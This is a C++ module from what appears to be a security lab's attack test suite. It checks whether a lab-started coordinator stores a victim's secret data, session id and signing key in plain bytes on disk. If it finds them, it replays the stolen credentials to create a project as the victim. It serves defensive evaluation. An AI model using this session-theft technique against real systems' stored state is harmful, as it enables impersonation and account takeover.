// state-disclosure-at-rest: a host-level attacker reads the coordinator's
// stored state. Exploited when the victim's secret project data or its live
// session id is there in plain bytes; the evidence then says whether what
// the file gives away (the id, and on stage 2 the session's signing key
// beside it) let the attacker act as the victim.
#include "attacks/attack_helpers.h"
#include "attacks/attack_list.h"
#include "core/file_io.h"

namespace lab::attacks {
namespace {

// The signing key of the session record whose id is `token`, in whichever of the files it was found in
// (stages 1-2 write their state as JSON); empty when the record has none.
std::string signing_key_stored_with(const std::vector<FileHit>& hits, const std::string& token) {
  for (const auto& hit : hits) {
    const auto text = read_file(hit.file);
    if (!text) continue;
    const Json state = Json::parse(*text, nullptr, false);
    if (state.is_discarded()) continue;
    for (const auto& session : state.value("sessions", Json::array())) {
      if (session.is_object() && session.value("session_id", "") == token) return session.value("signing_key", "");
    }
  }
  return {};
}

class StateDisclosureAtRest final : public Attack {
 public:
  std::string_view id() const override { return "state-disclosure-at-rest"; }
  std::string_view title() const override { return "Read live session ids from the state at rest"; }

  AttackResult run(const Target& t) const override {
    if (!t.control) return failed("needs a stage started by the lab");
    auto victim = victim_with_secret_project(t);
    if (!victim) return failed(victim.error().message);
    const auto& victim_id = victim->identity;
    const std::string& secret = victim->secret;
    const std::string& token = victim->session_id;
    const std::string quoted_token = '"' + token + '"';  // the whole id, not a prefix of a longer one

    const auto dir = t.control->state_dir();
    const auto hits = wait_for_files_containing(dir, {secret, quoted_token}, std::chrono::milliseconds(3000));
    if (hits.empty()) {
      return blocked("within 3 s no file under " + dir.string() +
                     " contained the victim's secret description or its session id in plain bytes");
    }
    std::string found;
    bool token_found = false;
    for (const auto& h : hits) {
      const bool is_token = h.needle == quoted_token;
      token_found |= is_token;
      found += (found.empty() ? "" : ", ") + std::string(is_token ? "session id " + token : "secret '" + secret + "'") +
               " in " + h.file.string();
    }
    std::string used;
    if (token_found) {
      // Everything stored with the session is the thief's: on stage 2 the record holds its signing key too.
      const StolenSession stolen{token, signing_key_stored_with(hits, token), victim_id.agent_id};
      auto response = create_project_with(t, stolen, "from-disk-" + t.tag);
      const std::string what = stolen.signing_key_hex.empty() ? "the id" : "the id and the signing key";
      if (response && response->value("status", "") == "ok" &&
          response->value("data", Json::object()).value("owner", "") == victim_id.agent_id) {
        used = "; " + what + " read from disk then created a project as " + victim_id.agent_id;
      } else {
        used = "; " + what + " read from disk did not act as the victim" +
               (response ? " (" + describe(net::error_from_response(*response)) + ")" : std::string());
      }
    }
    return exploited("read from the stored state in plain text: " + found + used);
  }
};

}  // namespace

std::unique_ptr<Attack> make_state_disclosure_at_rest() { return std::make_unique<StateDisclosureAtRest>(); }

}  // namespace lab::attacks
